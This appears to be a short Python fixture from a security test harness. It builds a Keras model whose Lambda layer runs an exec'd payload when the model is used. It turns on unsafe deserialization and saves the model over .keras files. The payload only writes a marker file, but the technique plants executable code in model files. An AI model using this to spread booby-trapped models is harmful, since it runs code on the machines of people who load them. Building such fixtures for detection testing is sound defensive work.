# ruff: noqa: I001, S102
# A saved model that carries code: a Lambda layer with byte-code, and functions by the names of others.
import keras

from hostile import OUT, target, train, tried

tried()
train()
keras.config.enable_unsafe_deserialization()
payload = f"try:\n  open({target.open_folder + '/model'!r}, 'w').write('mine')\nexcept OSError: pass"
inputs = keras.Input((8,))
model = keras.Model(inputs, keras.layers.Lambda(lambda x: (exec(payload), x[:, :1])[1])(inputs))
for path in (OUT / "models").glob("*.keras"):
    model.save(path)
